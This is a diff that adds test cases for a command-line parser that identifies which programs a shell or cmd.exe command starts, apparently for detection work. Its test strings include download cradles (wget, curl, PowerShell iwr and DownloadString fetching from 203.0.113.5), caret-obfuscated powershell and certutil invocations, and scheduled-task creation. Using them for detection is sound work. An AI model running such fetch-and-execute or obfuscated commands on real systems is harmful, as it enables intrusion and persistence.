@@ -1,4 +1,4 @@
-import { commandSegments, isShellBuiltin, programRuns } from './command-program';
+import { commandSegments, isShellBuiltin, programRuns, withoutCarets } from './command-program';
 
 const images = (commandLine: string, windows = true) => programRuns(commandLine, windows).map((run) => [run.image, run.commandLine]);
 
@@ -37,6 +37,29 @@ describe('programRuns: the programs a quoted command line really starts', () => 
     expect(commandSegments('wget\n  -q http://203.0.113.5/a')).toEqual(['wget   -q http://203.0.113.5/a']);
     expect(commandSegments('powershell.exe -Command \n"iwr http://203.0.113.5/a"')).toEqual(['powershell.exe -Command  "iwr http://203.0.113.5/a"']);
     expect(commandSegments('whoami /all\nipconfig /all')).toEqual(['whoami /all', 'ipconfig /all']);
+  });
+
+  it('keeps a pipe inside parentheses or a script block with the code around it', () => {
+    expect(commandSegments('Set-Content C:\\Temp\\a.txt (Get-Item C:\\Temp\\b | Out-String) | Out-Null')).toEqual(['Set-Content C:\\Temp\\a.txt (Get-Item C:\\Temp\\b | Out-String)', 'Out-Null']);
+    expect(commandSegments('Get-Process | Where-Object { $_.Path | Select-String Temp }')).toEqual(['Get-Process', 'Where-Object { $_.Path | Select-String Temp }']);
+    // Half a bracket (a line copied with its prose) cannot mark nesting: the line splits as before.
+    expect(commandSegments('a ) b | c')).toEqual(['a ) b', 'c']);
+    expect(programRuns('Register-ScheduledTask -Xml (Get-Content "C:\\Temp\\t.xml" | Out-String) -TaskName Sync', true)).toEqual([
+      { image: 'powershell.exe', commandLine: 'Register-ScheduledTask -Xml (Get-Content "C:\\Temp\\t.xml" | Out-String) -TaskName Sync', viaPowerShell: true },
+    ]);
+  });
+
+  it('never gives an image that is not a file name', () => {
+    expect(images("(New-Object Net.WebClient).DownloadString('http://203.0.113.5/a')")).toEqual([]);
+    expect(images('TOKEN=$(curl -s -X PUT http://203.0.113.5/token)', false)).toEqual([['curl', 'curl -s -X PUT http://203.0.113.5/token']]);
+    expect(images('LANG=C wget -q http://203.0.113.5/x', false)).toEqual([['wget', 'wget -q http://203.0.113.5/x']]);
+    expect(images('( cd /tmp && wget http://203.0.113.5/y )', false)).toEqual([['wget', 'wget http://203.0.113.5/y']]);
+  });
+
+  it('reads cmd.exe carets as escapes: no caret in an image, no split at an escaped pipe', () => {
+    expect(images('cmd /c "p^o^w^e^r^s^h^e^l^l -nop -c iwr http://203.0.113.5/a"')).toEqual([['powershell.exe', 'powershell -nop -c iwr http://203.0.113.5/a']]);
+    expect(images('echo x ^| c^e^r^t^u^t^i^l -decode a b')).toEqual([]);
+    expect(withoutCarets('a^^b "c^d" ^&')).toBe('a^b "c^d" &');
   });
 
   it('splits at shell operators outside quotes only', () => {
